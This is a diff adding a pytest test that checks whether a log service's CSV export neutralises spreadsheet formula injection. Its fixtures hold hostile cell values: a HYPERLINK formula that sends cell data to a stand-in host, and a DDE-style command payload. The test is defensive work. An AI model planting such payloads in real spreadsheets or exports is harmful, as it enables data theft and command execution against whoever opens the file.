@@ -123,3 +123,18 @@ def test_export_pages_cut_by_the_service_and_by_the_scan_budget_lose_nothing(loa
     assert [json.loads(line) for line in result.stdout.splitlines()] == expected
     result = cli(target.env, "export", *window, "--page-size", "10")
     assert [json.loads(line)["id"] for line in result.stdout.splitlines()] == [e["id"] for e in in_window(entries, base)]
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_open_as_text():
+    """CSV is for spreadsheets: a message starting = + - @ (or a tab or CR) gets a leading ', so
+    `=HYPERLINK(...)` shows as text instead of running; JSON Lines keeps the text exactly."""
+    from logsvc.entry import normalise
+    from logsvc.export import encode
+
+    hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tindented", "plain = fine"]
+    entries = [normalise({"severity": "info", "message": m, "source": s})
+               for m, s in zip(hostile, ["=cmd|' /C calc'!A0", "web-1", "web-1", "web-1", "web-1", "web-1"])]
+    rows = list(csv.DictReader(io.StringIO(encode(entries, "csv", header=True))))
+    assert [row["message"] for row in rows] == ["'" + m for m in hostile[:5]] + ["plain = fine"]
+    assert rows[0]["source"] == "'=cmd|' /C calc'!A0" and rows[1]["source"] == "web-1"
+    assert [json.loads(line)["message"] for line in encode(entries, "jsonl").splitlines()] == hostile
